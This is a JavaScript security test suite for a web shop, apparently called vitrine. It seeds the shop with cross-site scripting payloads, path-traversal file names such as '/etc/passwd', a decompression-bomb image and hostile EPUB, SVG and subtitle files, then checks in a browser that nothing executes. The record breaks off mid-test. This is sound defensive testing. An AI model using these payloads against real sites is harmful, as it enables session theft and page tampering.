// What people write and upload: it is shown as text wherever it appears, it runs nowhere, and it fills no memory.
import assert from "node:assert/strict";
import { mkdtemp, readdir, readFile, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { after, before, test } from "node:test";
import { fileURLToPath } from "node:url";
import { deflateRawSync } from "node:zlib";
import { ask, Jar, json, linkIn, post, purchase, signedIn, signedUp } from "../lib/attack.mjs";
import { launch, openPage } from "../lib/browser.mjs";
import { startServer } from "../lib/server.mjs";
import { zipOf } from "../lib/zip.mjs";

const market = fileURLToPath(new URL("../fixtures/market/files/", import.meta.url));
/** Ends attribute, title, text area and script, then brings an element of its own. */
const TEXT = "\"'></title></textarea></script><img data-pwn src=x onerror=pwned=1>";
/** The same for what has at most 40 characters, and 64 with a word before it. */
const SHORT = "\"'><img data-pwn src=x onerror=pwned=1>";
/** The same without white space, as a code must be. */
const CODE = "\"'><svg/data-pwn/onload=pwned=1>";
/** Hostile words that are known again by their first one. */
const evil = (word, tail = TEXT) => `${word} ${tail}`;
const HTML = [TEXT, "<p title=\"1:00&gt; 2:00 <img data-pwn src=x onerror=pwned=1>\">0:01 moment</p>", "<svg data-pwn onload=pwned=1><script>pwned=1</script></svg>", "<a data-pwn href=\"javascript:pwned=1\">a</a><a href=\"https://a.example/\" target=_blank style=\"position:fixed;inset:0\" onclick=pwned=1 class=button id=main name=body>b</a>",
  "<form data-pwn action=//evil.example><input name=password><button formaction=javascript:pwned=1>go</button></form>", "<iframe data-pwn srcdoc=\"<script>parent.pwned=1</script>\"></iframe><object data-pwn data=//evil.example></object><embed data-pwn src=//evil.example>", "<base data-pwn href=//evil.example><meta data-pwn http-equiv=refresh content=\"0;url=//evil.example\"><link data-pwn rel=stylesheet href=//evil.example><style data-pwn>*{display:none}</style>",
  "<math><mtext><table><mglyph><style><!--</style><img data-pwn title=\"--&gt;&lt;img data-pwn src=1 onerror=pwned=1&gt;\">", "<noscript><p title=\"</noscript><img data-pwn src=x onerror=pwned=1>\">", "<svg></p><style><a data-pwn title=\"</style><img data-pwn src=x onerror=pwned=1>\">", "{{7*7}} ${7*7} <%= 7*7 %>"].join("\n");

const price = [{ region: "eu", currency: "EUR", minor: 300 }];
const product = (sku, files) => ({ ref: sku, kind: "digital", title: TEXT, tax_class: "digital_music", variants: [{ sku, title: TEXT, licence: "evil", prices: price, ...files }] });
const parcel = { ref: "parcel", kind: "physical", title: TEXT, tax_class: "physical_music", variants: [{ sku: evil("SKU", SHORT), title: TEXT, weight_g: 400, stock: 90, prices: price }] };
const work = (ref, kind, more) => ({ type: "work", ref, store: "evil", kind, title: `${ref} ${TEXT}`, latin: TEXT, makers: [kind === "book" ? "writer" : "evil"], released: "2025-01-01", genres: [TEXT], tags: [TEXT], language: TEXT, description_html: HTML,
  credits: [{ role: TEXT, name: TEXT }], attribution: { text: TEXT, licence: TEXT, url: "https://a.example/\"><b/data-pwn>", changes: TEXT }, facts: { isbn: TEXT, series: TEXT, accessibility: [TEXT], resolution: TEXT, sound: TEXT, subtitles: [TEXT], age_rating: TEXT }, products: [product(`${ref}-1`)], ...more });
const rows = [
  { type: "tenant", ref: "evil", name: TEXT, legal: { name: TEXT, address: [TEXT], country: "DE", email: "evil@example.org", tax_ids: [TEXT], invoice_prefix: "EV", registrations: ["DE"] }, currency: "EUR", locale: "en-US", fee_bps: 1000 },
  { type: "store", ref: "evil", tenant: "evil", handle: "evil", name: TEXT, tagline: TEXT, about_html: HTML, brand: `../..${TEXT}`, links: [{ label: TEXT, url: "https://a.example/\"><b/data-pwn>" }], ships_from: "DE" },
  { type: "licence", ref: "evil", version: 1, title: TEXT, summary: [TEXT], body_html: HTML },
  { type: "maker", ref: "evil", tenant: "evil", kind: "artist", name: TEXT, latin: TEXT, slug: "evil", bio_html: HTML, links: [{ label: TEXT, url: "https://a.example/\"><b/data-pwn>" }] },
  { type: "maker", ref: "writer", tenant: "evil", kind: "author", name: TEXT, slug: "evil", bio_html: HTML },
  work("album", "album", { cover: { file: "film.png", alt: TEXT }, parts: [{ title: TEXT, notes_html: HTML, files: [{ file: "1.ogg", format: TEXT, name: `${TEXT}/../../x.ogg` }] }], files: [{ file: "evil.svg", format: "SVG" }, { file: "evil.html", format: "HTML" }] }),
  work("book", "book", { files: [{ file: "evil.epub", format: "EPUB" }] }),
  work("sleeve", "album", { products: [parcel] }),
  work("cast", "podcast", { parts: [{ title: TEXT, notes_html: HTML, date: "2025-01-01", files: [{ file: "1.ogg", format: "Ogg" }], transcripts: [{ file: "evil.en.vtt" }] }] }),
  // Each of these is refused for itself.
  { type: "maker", ref: "m1", tenant: "evil", kind: "artist", name: "script link", links: [{ label: "x", url: "javascript:pwned=1" }] },
  work("source", "album", { attribution: { text: "x", licence: "x", url: "javascript:pwned=1" } }),
  ...["../../../../etc/passwd", "/etc/passwd", "..\\..\\x", "files/../../../x", "", "missing.ogg"].map((file, n) => work(`path${n}`, "album", { parts: [{ title: "x", files: [{ file, format: "x" }] }] })),
  work("playlist", "album", { parts: [{ title: "x", files: [{ file: "list.m3u8", format: "HLS" }] }] }),
  work("bomb", "album", { cover: { file: "bomb.png", alt: "x" }, files: [{ file: "evil.svg", format: "SVG" }] }),
  work("spine", "book", { files: [{ file: "many.epub", format: "EPUB" }] }),
];

const chapter = `<html xmlns="http://www.w3.org/1999/xhtml"><head><title>x</title><script>parent.pwned=1</script></head><body onload="parent.pwned=1"><h1>One <b onclick="pwned=1">two</b></h1><script>parent.pwned=1;top.location='//evil.example'</script>
<form action="//evil.example"><input/></form><iframe src="//evil.example"></iframe><p>${"word ".repeat(300)}</p><a href="javascript:parent.pwned=1" data-pwn="1">x</a><svg onload="parent.pwned=1"/></body></html>`;
const container = "<container xmlns=\"urn:oasis:names:tc:opendocument:xmlns:container\"><rootfiles><rootfile full-path=\"p.opf\"/></rootfiles></container>";
const epub = (items, spine, files) => zipOf([["META-INF/container.xml", container], ["p.opf", `<package xmlns="http://www.idpf.org/2007/opf"><manifest>${items}</manifest><spine>${spine}</spine></package>`], ...files].map(([name, text]) => [name, Buffer.from(text)]));
const item = "<item id=\"c\" href=\"c.xhtml\" media-type=\"application/xhtml+xml\"/>";

/** An image that claims these sides, its pixels all one packed zero. */
function png(width, height) {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.set([8, 2, 0, 0, 0], 8);
  const part = (name, data) => {
    const body = Buffer.concat([Buffer.from(name), data]);
    const [size, sum] = [Buffer.alloc(4), Buffer.alloc(4)];
    size.writeUInt32BE(data.length);
    sum.writeUInt32BE(crc(body));
    return Buffer.concat([size, body, sum]);
  };
  return Buffer.concat([Buffer.from("89504e470d0a1a0a", "hex"), part("IHDR", header), part("IDAT", deflateRawSync(Buffer.alloc(1 << 20))), part("IEND", Buffer.alloc(0))]);
}
function crc(bytes) {
  let sum = ~0;
  for (const byte of bytes) {
    sum ^= byte;
    for (let bit = 0; bit < 8; bit += 1) sum = (sum >>> 1) ^ (sum & 1 ? 0xedb88320 : 0);
  }
  return ~sum >>> 0;
}

let server;
let browser;
let folder;
let paths;
let staff;
let seller;
before(async () => {
  folder = await mkdtemp(join(tmpdir(), "vitrine-evil-"));
  const put = (name, bytes) => writeFile(join(folder, name), bytes);
  await put("catalog.jsonl", rows.map((row) => JSON.stringify(row)).join("\n"));
  await put("1.ogg", await readFile(join(market, "1.ogg")));
  await put("film.png", await readFile(join(market, "film.png")));
  await put("evil.svg", "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"parent.pwned=1\"><script>parent.pwned=1</script></svg>");
  await put("evil.html", "<p>x</p><script>parent.pwned=1</script>");
  await put("evil.en.vtt", `WEBVTT\n\n00:00:00.000 --> 00:00:01.000\n<v ${TEXT.replaceAll(">", "&gt;")}>${TEXT}\n\nSTYLE\n::cue { background: url(//evil.example) }\n`);
  await put("evil.epub", epub(item, "<itemref idref=\"c\"/>", [["c.xhtml", chapter]]));
  await put("many.epub", epub(item, "<itemref idref=\"c\"/>".repeat(100_000), [["c.xhtml", `<html><body>${"<p>x</p>".repeat(10_000)}</body></html>`]]));
  await put("list.m3u8", `#EXTM3U\n#EXT-X-TARGETDURATION:9\n#EXTINF:9,\n${join(folder, "1.ogg")}\n#EXT-X-ENDLIST\n`);
  await put("bomb.png", png(12_000, 12_000));
  server = await startServer({ folder, limits: 0 });
  browser = await launch();
  staff = await signedIn(server, "staff@vitrine.example", "help-and-refund");
  seller = await signedIn(server, "creator@vitrine.example", "make-and-publish");
  const list = (await ask(server, "GET", "/catalog")).body;
  const path = (kind, ref) => list.match(new RegExp(`href="(/${kind}/${ref}[^"]*w_[0-9a-v]{26})"`))?.[1];
  paths = { album: path("albums", "album"), sleeve: path("albums", "sleeve"), book: path("books", "book"), podcast: path("podcasts", "cast") };
});
after(async () => {
  await browser?.close();
  await server?.stop();
  if (folder) await rm(folder, { recursive: true, force: true });
});

/** Opens an address and looks whether anything of ours came alive. `shows`: a hostile text, or each of these, must be there as text. */
async function looked(page, faults, address, shows = true) {
  faults.length = 0;
  const answer = await page.goto(address, { waitUntil: "load" });
  assert.ok(answer.status() < 500, `${address}: ${answer.status()}`);
  return unharmed(page, faults, address, shows);
}

/** As `looked`, of a page or frame as it stands. Answers what it shows: texts, and what stands in fields and labels. */
async function unharmed(page, faults, address, shows = true) {
  const found = await page.evaluate(() => {
    const all = [...document.querySelectorAll("*")];
    return {
      pwned: globalThis.pwned, planted: document.querySelectorAll("[data-pwn], base, iframe[srcdoc], object, embed, meta[http-equiv=refresh]:not([content^='0;url=http://localhost'])").length,
      handlers: all.flatMap((e) => [...e.attributes].filter((a) => /^on/i.test(a.name)).map((a) => `${e.tagName} ${a.name}`)),
      links: all.flatMap((e) => ["href", "src", "action", "formaction"].map((n) => e.getAttribute(n))).filter((v) => v && (/^\s*(javascript|data:text|vbscript)/i.test(v) || v.includes("//evil.example"))),
      styled: document.querySelectorAll("[style*=fixed]").length,
      // What a script was sent is not shown by that.
      text: all.filter((e) => !/^(script|style|template|noscript)$/i.test(e.tagName)).flatMap((e) => [...e.childNodes].filter((n) => n.nodeType === Node.TEXT_NODE).map((n) => n.data).concat(e.value ?? "", e.getAttribute("aria-label") ?? "")).join(" "),
    };
  });
  assert.deepEqual({ ...found, text: null }, { pwned: undefined, planted: 0, handlers: [], links: [], styled: 0, text: null }, address);
  assert.deepEqual(faults.filter((f) => /Content Security Policy|page error/.test(f)), [], address);
  for (const word of shows === true ? ["<img data-pwn"] : shows || []) assert.ok(found.text.includes(word), `${address} does not show what was written: ${word}`);
  return found.text;
}

/** The page is this person's from now on. */
async function as(page, jar) {
  await page.context().clearCookies();
  await page.context().addCookies(`${jar}`.split("; ").map((pair) => ({ name: pair.split("=")[0], value: pair.slice(pair.indexOf("=") + 1), url: server.url.replace("http:", "https:"), secure: true, httpOnly: true, sameSite: "Lax" })));
}

/** A press that is taken, or one that is `refused` and leads back to what was typed. Answers where it leads. */
async function pressed(path, fields, jar, refused = false) {
  const answer = await post(server, path, fields, `${jar}`);
  const to = answer.headers.location ?? "";
  assert.ok(answer.status === 303 && to.includes("trouble=") === refused, `${path}: ${answer.status} ${to} ${answer.body}`);
  return server.url + to.replace(server.url, "");
}

/** A file as a form sends it, with the other fields of that form; answers where it leads. */
async function sent(path, field, name, file, jar, fields = {}) {
  const part = (about, value) => `--b\r\ncontent-disposition: form-data; ${about}\r\n\r\n${value}\r\n`;
  const body = Object.entries(fields).map(([n, value]) => part(`name="${n}"`, value)).join("") + part(`name="${field}"; filename="${name}"`, file) + "--b--\r\n";
  const answer = await ask(server, "POST", path, { headers: { origin: server.url, cookie: `${jar}`, "content-type": "multipart/form-data; boundary=b" }, body });
  assert.equal(answer.status, 303, answer.body);
  return server.url + answer.headers.location;
}

/** What a page of the desk has in a hidden field, or at another place. */
async function read(path, jar, what) {
  const found = (await ask(server, "GET", path, { headers: { cookie: `${jar}` } })).body.match(what);
  assert.ok(found, `${path} has no ${what}`);
  return found[1].replaceAll("&amp;", "&");
}

/** The address of an order's invoice, once a job wrote it. */
async function invoiceOf(order, jar) {
  const deadline = Date.now() + 20_000;
  for (;;) {
    const { invoice_href: invoice } = JSON.parse((await json(server, "GET", `/api/orders/${order}`, undefined, `${jar}`)).body).parts[0];
    if (invoice) return invoice;
    assert.ok(Date.now() < deadline, "no invoice");
  }
}

/** Looks at every mail until each of these texts was in one. */
async function mailed(page, faults, wanted) {
  const [deadline, known, left] = [Date.now() + 20_000, new Set(), new Set(wanted)];
  while (left.size > 0) {
    assert.ok(Date.now() < deadline, `no mail says ${[...left].join(" | ")}`);
    const list = (await ask(server, "GET", "/dev/outbox")).body;
    for (const [, path] of list.matchAll(/href="(\/dev\/outbox\/mail\?key=[^"]+)"/g)) {
      if (known.has(path)) continue;
      known.add(path);
      const text = await looked(page, faults, server.url + path.replaceAll("&amp;", "&"), false);
      for (const word of left) if (text.includes(word)) left.delete(word);
    }
  }
}

test("nothing that a seller writes comes alive on any page, in feeds or in mails", async () => {
  assert.ok(paths.album && paths.book && paths.podcast, JSON.stringify(paths));
  const { page, faults, close } = await openPage(browser);
  const licence = (await ask(server, "GET", paths.album)).body.match(/href="(\/eula\/[^"]+)"/)[1];
  for (const path of ["/", "/catalog", "/catalog?type=album", paths.album, paths.book, paths.podcast, `${paths.podcast}/transcript/1`, "/artists/evil", "/authors/evil", licence]) await looked(page, faults, server.url + path);
  await looked(page, faults, `${server.url}/@evil`);
  for (const path of ["/feeds/new.xml", "/feeds/evil.xml", `${paths.podcast}/feed.xml`, "/sitemap.xml", "/sitemaps/evil-album.xml"]) {
    const answer = await ask(server, "GET", path);
    assert.equal(answer.status, 200, path);
    const fault = await page.evaluate((text) => new DOMParser().parseFromString(text, "application/xml").querySelector("parsererror")?.textContent, answer.body);
    assert.equal(fault, undefined, path);
    assert.doesNotMatch(answer.body, /<img|<script/i, path);
  }
  await close();
});

test("nothing that a visitor writes comes alive where the shop, the seller or staff see it", async () => {
  const { page, faults, close } = await openPage(browser, { userAgent: TEXT });
  const q = encodeURIComponent(TEXT);
  for (const path of [`/search?q=${q}`, `/catalog?tag=${q}&genre=${q}&format=${q}`, `/catalog?type=album&tag=${q}&sort=${q}`]) await looked(page, faults, server.url + path, path.includes("q=") || path.includes("tag="));
  for (const path of [`/cart?trouble=${q}`, `/problem/${q}?id=${q}&status=404`, `/${q}`, `/@${q}`, `/albums/${q}`, `/orders/${q}?key=${q}`, `/policies/${q}`, `/eula/${q}`, `/letters/${q}/${q}?proof=${q}`, `/dev/outbox/mail?key=${q}`, `/oidc/authorize?client_id=${q}&redirect_uri=${q}`, `/oidc/logout?state=${q}`, `/oidc/verify?token=${q}`, `/simulator/done/${q}`, `/@evil?letters=${q}`]) await looked(page, faults, server.url + path, false);
  // A person whose name, browser, address and words are all hostile buys, asks, and adds business details.
  const buyer = await signedUp(server, "evil-buyer@example.org", "a long enough word", TEXT);
  const { order, parts } = await purchase(server, [paths.album, paths.book], { cookie: `${buyer}`, email: "evil-buyer@example.org", name: TEXT, line1: TEXT, line2: TEXT, city: TEXT, region: TEXT, postcode: "10115" });
  assert.equal((await post(server, `/orders/${parts[0].id}/ask`, { text: TEXT, seen: "0" }, `${buyer}`)).status, 303);
  const invoice = await invoiceOf(order, buyer);
  await post(server, `${invoice}/amend`, { company: TEXT, tax_id: TEXT, address: `${TEXT}\n${TEXT}` }, `${buyer}`);
  const tracked = await post(server, `/admin/orders/${parts[0].id}/refund`, { line: "0", reason: TEXT, attempt: "attempt-0123456789" }, `${staff}`);
  assert.match(tracked.headers.location, /done=1/);
  const editor = `/studio/works/${paths.album.match(/w_[0-9a-v]{26}/)[0]}`;
  await post(server, editor, { title: "", latin: TEXT, description: HTML, rev: "1" }, `${seller}`);
  await as(page, buyer);
  for (const path of ["/account", `/orders/${order}`, invoice, "/invoices", "/my-products", `/my-products/${paths.album.match(/w_[0-9a-v]{26}/)[0]}`, `/my-products/${paths.book.match(/w_[0-9a-v]{26}/)[0]}`]) await looked(page, faults, server.url + path);
  await purchaseCart(buyer);
  await page.goto(`${server.url}/preferences?country=DE&lang=en-US&to=/`);
  for (const path of ["/cart", "/checkout"]) await looked(page, faults, server.url + path);
  for (const [jar, seen] of [[seller, ["/studio", editor, `/studio/orders/${parts[0].id}`, `/preview/${editor.split("/").pop()}`]], [staff, ["/admin?q=evil-buyer@example.org", `/admin/orders/${parts[0].id}`, "/admin?q=album"]]]) {
    await as(page, jar);
    for (const path of seen) await looked(page, faults, server.url + path, !path.includes("?q=evil"));
  }
  // Letters to readers, and every mail of all of this.
  const store = (await ask(server, "GET", "/@evil")).body.match(/\/letters\/(s_[0-9a-v]{26})\/ask/)[1];
  await post(server, `/letters/${store}/ask`, { email: "reader@example.org" });
  const link = await linkIn(server, "reader@example.org", /\/letters\//);
  await looked(page, faults, server.url + link);
  const outbox = (await ask(server, "GET", "/dev/outbox")).body;
  for (const [, path] of outbox.matchAll(/href="(\/dev\/outbox\/mail\?key=[^"]+)"/g)) await looked(page, faults, server.url + path.replaceAll("&amp;", "&"), false);
  await close();
});

/** Where the prices are. */
const german = { "accept-language": "de-DE" };
async function purchaseCart(jar) {
  const variant = JSON.parse((await json(server, "GET", `/api/public/catalog/items/${paths.album.match(/w_[0-9a-v]{26}/)[0]}`)).body).editions[0].variant;
  await post(server, "/cart/add", { variant }, `${jar}`, german);
  await post(server, "/checkout/place", { attempt: "attempt-0123456789ab", seen_minor: "1", email: TEXT, name: TEXT, line1: TEXT, line2: TEXT, city: TEXT, region: TEXT, postcode: TEXT, country: TEXT }, `${jar}`, german);
}

test("what a seller sets up comes alive neither at the desk nor where buyers see it, and what is said of an order nowhere", async () => {
  const { page, faults, close } = await openPage(browser);
  const tenant = await read("/studio/promotions", seller, /\/studio\/promotions\/new\?tenant=(t_[0-9a-v]{26})/);
  const store = await read("/studio/shipping", seller, /\/studio\/shipping\/(s_[0-9a-v]{26})/);
  const desk = `/studio/shipping/${store}`;
  await as(page, seller);
  // Zones, ways and rates: what is refused is said again at its field.
  const set = async (part, fields, refused) => pressed(`${desk}/${part}`, { rev: await read(`${desk}/${part}`, seller, /name="rev" value="(\d+)"/), was: "", ...fields }, seller, refused);
  await looked(page, faults, await set("zone", { id: TEXT, countries: TEXT, places: evil("place"), except: evil("except") }, true), [evil("place"), evil("except")]);
  await looked(page, faults, await set("way", { id: evil("kept", SHORT), name: evil("kept"), names: evil("row") }, true), [evil("kept"), evil("row")]);
  await looked(page, faults, await set("nowhere", { places: evil("nowhere") }, true), [evil("nowhere")]);
  await set("zone", { id: evil("zone", SHORT), countries: "DE" });
  for (const way of ["bike", "foot"]) await set("way", { id: evil(way, SHORT), name: evil(way), names: `de: ${evil(`${way}-de`)}` });
  for (const [way, amount] of [["bike", "1.00"], ["foot", "2.00"]]) await set("rate", { zone: evil("zone", SHORT), way: evil(way, SHORT), currency: "EUR", amount });
  const names = [evil("zone", SHORT), evil("bike"), evil("foot")];
  await looked(page, faults, `${server.url}/studio/shipping`);
  await looked(page, faults, server.url + desk, [...names, "bike-de"]);
  await looked(page, faults, `${server.url}${desk}?${new URLSearchParams({ try: "1", country: "DE", region: TEXT, postcode: TEXT, weight: "400", pieces: "1", worth: "20", currency: "EUR" })}`, [...names, TEXT]);
  await looked(page, faults, `${server.url}${desk}?${new URLSearchParams({ try: "1", country: TEXT, weight: TEXT, pieces: TEXT, worth: TEXT, currency: TEXT })}`);
  for (const [part, was] of [["zone", evil("zone", SHORT)], ["way", evil("bike", SHORT)]]) await looked(page, faults, `${server.url}${desk}/${part}?was=${encodeURIComponent(was)}`, part === "way" ? [evil("bike"), evil("bike-de")] : []);
  await looked(page, faults, `${server.url}${desk}/rate`, names);
  await looked(page, faults, server.url + (await read(desk, seller, /href="(\/studio\/shipping\/[^"]*\/rate\?was=[^"]+)"/)), names);
  await looked(page, faults, `${server.url}${desk}/nowhere?was=${encodeURIComponent(TEXT)}`, false);

  // Groups and promotions.
  await looked(page, faults, await pressed("/studio/groups", { tenant, name: evil("name"), title: evil("typed") }, seller, true), [evil("name"), evil("typed")]);
  await looked(page, faults, await pressed("/studio/groups", { tenant, name: "evil", title: evil("group") }, seller), [evil("group")]);
  await looked(page, faults, await pressed("/studio/groups/evil", { tenant, addresses: evil("address"), act: "in" }, seller, true), [evil("address")]);
  await looked(page, faults, `${server.url}/studio/groups`, [evil("group")]);
  const promotion = { tenant, rev: "0", kind: "percent", rate: "10" };
  const typed = { title: evil("draft"), code: evil("code"), rate: evil("rate"), items: evil("item"), at_most: evil("most"), stores: evil("store"), minimum: evil("least"), stack_group: evil("stack"), excludes: evil("other"), priority: evil("priority") };
  await looked(page, faults, await pressed("/studio/promotions/new", { ...promotion, ...typed }, seller, true), [...Object.values(typed), evil("group")]);
  await looked(page, faults, await pressed("/studio/promotions/new", { ...promotion, title: evil("automatic") }, seller), [evil("automatic"), evil("group")]);
  await looked(page, faults, await pressed("/studio/promotions/new", { ...promotion, title: evil("coded"), code: CODE }, seller), [evil("coded"), CODE]);
  await looked(page, faults, `${server.url}/studio/promotions`, [evil("automatic"), CODE]);

  // A buyer is shown all of it, before and after paying, in two languages.
  const buyer = await signedUp(server, "evil-parcel@example.org", "a long enough word", evil("buyer"));
  const variant = JSON.parse((await json(server, "GET", `/api/public/catalog/items/${paths.sleeve.match(/w_[0-9a-v]{26}/)[0]}`)).body).editions[0].variant;
  await post(server, "/cart/add", { variant }, `${buyer}`, german);
  for (const discount of [CODE, "\"'><svg/data-pwn/onload=pwned=2>"]) await post(server, "/cart/code", { discount }, `${buyer}`, german);
  await as(page, buyer);
  await page.goto(`${server.url}/preferences?country=DE&lang=de-DE&to=/`);
  for (const path of ["/cart", "/checkout"]) await looked(page, faults, server.url + path, [evil("bike-de"), evil("foot-de"), evil("automatic"), CODE, "onload=pwned=2"]);
  await page.goto(`${server.url}/preferences?country=DE&lang=en-US&to=/`);
  for (const path of ["/cart", "/checkout"]) await looked(page, faults, server.url + path, [evil("bike"), evil("foot"), evil("automatic"), CODE, "onload=pwned=2"]);
  // An order is refused here, and what was typed for it stays.
  const form = { email: evil("email"), name: evil("name"), line1: evil("line1"), line2: evil("line2"), city: evil("city"), postcode: evil("postcode") };
  await post(server, "/checkout/place", { attempt: "attempt-of-a-parcel-01", seen_minor: "1", country: "DE", ...form }, `${buyer}`, german);
  await looked(page, faults, `${server.url}/checkout`, Object.values(form));
  const { order, parts } = await purchase(server, [paths.sleeve], { cookie: `${buyer}`, email: "evil-parcel@example.org" });
  const id = parts[0].id;
  const labels = [evil("bike"), evil("automatic"), CODE];
  await looked(page, faults, `${server.url}/orders/${order}`, labels);

  // Question and answer, the parcel's number, the buyer's name under a withdrawal, the reason of credit.
  await pressed(`/orders/${id}/ask`, { text: evil("question"), seen: "0" }, buyer);
  await as(page, seller);
  await looked(page, faults, await pressed(`/studio/orders/${id}/answer`, { text: evil("answer"), seen: "1" }, seller), [evil("question"), evil("answer"), evil("bike")]);
  await looked(page, faults, `${server.url}/studio`);
  await as(page, staff);
  await looked(page, faults, await pressed(`/admin/orders/${id}/ship`, { line: "0", tracking: evil("tracking") }, staff), [evil("tracking"), evil("question"), evil("answer"), ...labels]);
  await pressed(`/admin/orders/${id}/credit`, { credit_amount: "1.00", credit_reason: evil("credit"), attempt: "attempt-of-a-hostile-credit" }, staff);
  const credits = [...(await ask(server, "GET", "/admin/value", { headers: { cookie: `${staff}` } })).body.matchAll(/href="(\/admin\/value\/[^"?]+)"/g)].map((m) => m[1]);
  const told = [];
  for (const path of credits) told.push(await looked(page, faults, server.url + path, false));
  assert.ok(told.some((text) => text.includes(evil("credit"))), "the reason of the credit is on no account");
  assert.equal((await post(server, `/orders/${id}/withdraw`, { name: evil("withdrawn"), line: "0" }, `${buyer}`)).headers.location, `/orders/${id}#withdraw`);
  await as(page, buyer);
  await looked(page, faults, `${server.url}/orders/${order}`, [evil("tracking"), evil("question"), evil("answer"), ...labels]);
  await looked(page, faults, `${server.url}/checkout`, false);
  await looked(page, faults, server.url + (await invoiceOf(order, buyer)), [evil("bike")]);
  await mailed(page, faults, ["withdrawn", "question", "answer", "tracking", "bike-de"].map((word) => evil(word)));
  await close();
});

test("a price list and what is typed into it come alive nowhere", async () => {
  const { page, faults, close } = await openPage(browser);
  await as(page, seller);
  const tenant = await read("/studio/prices", seller, /name="seller" value="(t_[0-9a-v]{26})"/);
  const sku = evil("SKU", SHORT);
  const cell = (text) => `"${text.replaceAll("\"", "\"\"")}"`;
  const rows = [["sku", "region", "currency", "amount"], [sku, "eu", "EUR", "2.50"], [evil("unknown", SHORT), "eu", "EUR", "1"], [sku, evil("region"), "EUR", "1"], [sku, "eu", evil("currency"), "1"], [sku, "eu", "EUR", evil("amount")], [TEXT]];
  const changes = await sent("/studio/prices/import", "rows", `${TEXT.replaceAll("\"", "")}.csv`, rows.map((row) => row.map(cell).join(",")).join("\r\n"), seller, { seller: tenant });
  // Of a refused row its number and the name of the column are shown.
  await looked(page, faults, changes, [sku, evil("unknown", SHORT)]);
  await looked(page, faults, `${server.url}/studio/prices`, [sku]);
  const edition = await read("/studio/prices", seller, /href="(\/studio\/prices\/edition\/v_[0-9a-v]{26})"/);
  const fields = async (path) => Object.fromEntries([...(await ask(server, "GET", path, { headers: { cookie: `${seller}` } })).body.matchAll(/<input[^>]* name="((?:rev|was|price)-[^"]*|rev)"[^>]*>/g)].map((m) => [m[1], m[0].match(/value="([^"]*)"/)?.[1] ?? ""]));
  const grid = await fields("/studio/prices");
  const field = Object.keys(grid).find((name) => /^price-v_.*-eu-EUR$/.test(name));
  await looked(page, faults, await pressed("/studio/prices/grid", { seller: tenant, ...grid, [field]: evil("cell") }, seller, true), [evil("cell")]);
  const typed = { amount: evil("amount"), minimum: evil("minimum"), compare_at: evil("before") };
  const { rev } = await fields(edition);
  await looked(page, faults, await pressed(edition, { rev, region: TEXT, currency: TEXT, kind: TEXT, min_quantity: TEXT, from: TEXT, to: TEXT, ...typed }, seller, true), Object.values(typed));
  for (const query of [{ q: TEXT, at: TEXT }, { q: TEXT, after: TEXT }]) await looked(page, faults, `${server.url}/studio/prices?${new URLSearchParams(query)}`, !query.at);
  for (const query of [{ skus: sku, country: "DE" }, { skus: TEXT, country: TEXT, region: TEXT, at: TEXT }]) await looked(page, faults, `${server.url}/studio/prices/see?${new URLSearchParams({ seller: tenant, ...query })}`);
  await close();
});

test("letters, gift cards, stored value and rates of one's own come alive neither at the desk nor in mails", async () => {
  const { page, faults, close } = await openPage(browser);
  const store = await read("/studio/shipping", seller, /\/studio\/shipping\/(s_[0-9a-v]{26})/);
  // A seller's letter: kept while it cannot be sent, shown when it was, and what a reader gets.
  await post(server, `/letters/${store}/ask`, { email: "evil-letters@example.org" });
  const link = new URL(await linkIn(server, "evil-letters@example.org", /\/letters\//), server.url);
  await post(server, `${link.pathname}/confirm`, { proof: link.searchParams.get("proof") });
  await as(page, seller);
  const letters = `/studio/letters/${store}`;
  await looked(page, faults, await pressed(letters, { subject: evil("long", TEXT + TEXT), text: evil("draft"), attempt: "attempt-of-a-draft-01" }, seller, true), [evil("long", TEXT + TEXT), evil("draft")]);
  await looked(page, faults, await pressed(letters, { subject: evil("subject"), text: `${evil("letter")}\n\n${HTML}`, attempt: "attempt-of-a-letter-1" }, seller), [evil("subject"), evil("letter")]);

  // A gift card: words of who gives it, in the form that is refused and in the mail.
  const cards = `/studio/gift-cards/${store}`;
  const rev = () => read(cards, seller, /name="rev" value="(\d+)"/);
  await looked(page, faults, await pressed(cards, { rev: await rev(), was: "", currency: "EUR", amounts: evil("amounts"), least: evil("least"), most: evil("most") }, seller, true), [evil("amounts"), evil("least"), evil("most")]);
  await looked(page, faults, await pressed(cards, { rev: await rev(), was: "", currency: "EUR", amounts: "15" }, seller));
  const words = { recipient: evil("recipient"), sender: evil("sender"), message: evil("message") };
  const wish = { attempt: "attempt-of-a-gift-0001", currency: "EUR", amount: "1500", pieces: "1", email: "evil-giver@example.org", recipient_email: "evil-kin@example.org", ...words };
  const here = "vitrine_prefs=lang=en-US&country=DE";
  const refused = await post(server, "/gift-cards/evil/buy", { ...wish, pieces: evil("pieces"), email: evil("email"), recipient_email: evil("address") }, here);
  await looked(page, faults, server.url + refused.headers.location, [...Object.values(words), evil("pieces"), evil("email"), evil("address")]);
  const bought = await post(server, "/gift-cards/evil/buy", wish, here);
  const pay = new URL(bought.headers.location, server.url);
  await post(server, pay.pathname + pay.search, { method: "card", number: "4242424242424242", expiry: "04/30", cvc: "123" });

  // Stored value: reason and message of a card that is issued, the reason of its end.
  await as(page, staff);
  const value = { currency: "EUR", locale: "en-US", recipient: "evil-value@example.org", message: evil("value-message"), reason: evil("value-reason") };
  await looked(page, faults, await pressed("/admin/value", { ...value, amount: evil("value-amount"), attempt: "attempt-of-value-00001" }, staff, true), [evil("value-amount"), evil("value-message"), evil("value-reason")]);
  const account = await pressed("/admin/value", { ...value, amount: "5", attempt: "attempt-of-value-00002" }, staff);
  await looked(page, faults, account, [evil("value-reason")]);
  await mailed(page, faults, [evil("subject"), evil("letter"), ...Object.values(words), evil("value-message")]);
  await looked(page, faults, `${server.url}/dev/outbox`, [evil("subject")]);
  await looked(page, faults, await pressed(`${new URL(account).pathname}/end`, { reason: evil("value-end") }, staff), [evil("value-reason"), evil("value-end")]);
  await looked(page, faults, `${server.url}/admin/value?q=${encodeURIComponent(TEXT)}`);

  // A file of rates: its source is shown in the list and in the trail.
  const today = new Date().toISOString().slice(0, 10);
  const file = (source) => `source,base,currency,rate,from,until\n"${source.replaceAll("\"", "\"\"")}",JPY,USD,115.21,${today},${today}\n`;
